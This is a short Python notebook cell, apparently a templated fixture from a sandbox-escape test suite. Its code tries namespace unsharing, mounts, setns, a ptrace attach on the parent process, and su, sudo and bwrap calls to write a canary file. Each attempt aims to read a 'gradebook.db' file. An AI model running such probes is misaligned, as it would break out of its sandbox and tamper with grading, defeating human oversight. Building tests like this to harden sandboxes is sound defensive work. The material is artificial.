# %% [markdown] right=["03_counter"] says="norm"
# Namespaces, mounts, chroot, ptrace and set-user-id programs are tried one after the other.

# %%
import ctypes
import os
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x10020000, 0x40000000, 0x7E020000):
    pid = os.fork()
    if pid == 0:
        done = libc.unshare(flags) == 0
        mounted = libc.mount(b"proc", b"/proc", b"proc", 0, None) == 0
        libc.mount(b"/", b"/tmp", None, 4096, None)
        libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0) if os.path.exists("/proc/1/ns/mnt") else None
        os.setuid(0) if False else None
        try:
            open("@ROOT@/gradebook.db", "rb").read(1)
            open("@CANARY@", "w").write("out")
        except OSError:
            pass
        os._exit(0)
    os.waitpid(pid, 0)
libc.ptrace(16, os.getppid(), 0, 0)
for command in (
    ["su", "-c", "touch @CANARY@"],
    ["sudo", "-n", "touch", "@CANARY@"],
    ["mount"],
    ["bwrap", "--bind", "/", "/", "touch", "@CANARY@"],
):
    try:
        subprocess.run(command, timeout=1, stdin=subprocess.DEVNULL, capture_output=True)
    except (OSError, subprocess.SubprocessError):
        pass
try:
    open("@ROOT@/gradebook.db", "rb").read(1)
    print("FOUND the gradebook")
except OSError:
    pass
